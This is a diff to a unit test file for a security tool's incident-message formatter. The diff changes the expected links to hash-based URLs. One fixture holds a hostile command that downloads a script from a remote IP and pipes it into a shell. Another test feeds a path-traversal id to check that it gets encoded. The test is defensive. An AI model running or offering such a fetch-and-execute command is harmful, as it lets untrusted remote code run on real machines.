@@ -48,8 +48,8 @@ describe('incidentMessage', () => {
     expect(message.facts[0]).toEqual({ label: 'Command', value: 'sh -c "curl http://198.51.100.23/x.sh | sh"' });
     expect(message.facts).toContainEqual({ label: 'Image pushed', value: '2026-11-24 08:00 UTC by ci-bot' });
     expect(message.links.map(({ url }) => url)).toEqual([
-      'https://tidewaiter.example.com/incidents/0198a1c2',
-      `https://tidewaiter.example.com/images/${digest}`,
+      'https://tidewaiter.example.com/#incidents/0198a1c2',
+      `https://tidewaiter.example.com/#images/${digest}`,
     ]);
   });
 
@@ -121,6 +121,6 @@ describe('incidentMessage', () => {
 
   it('puts nothing of an event into a link as it is', () => {
     const [link] = incidentMessage({ ...incident, id: '../x?<|>' }, console).links;
-    expect(link?.url).toBe('https://tidewaiter.example.com/incidents/..%2Fx%3F%3C%7C%3E');
+    expect(link?.url).toBe('https://tidewaiter.example.com/#incidents/..%2Fx%3F%3C%7C%3E');
   });
 });
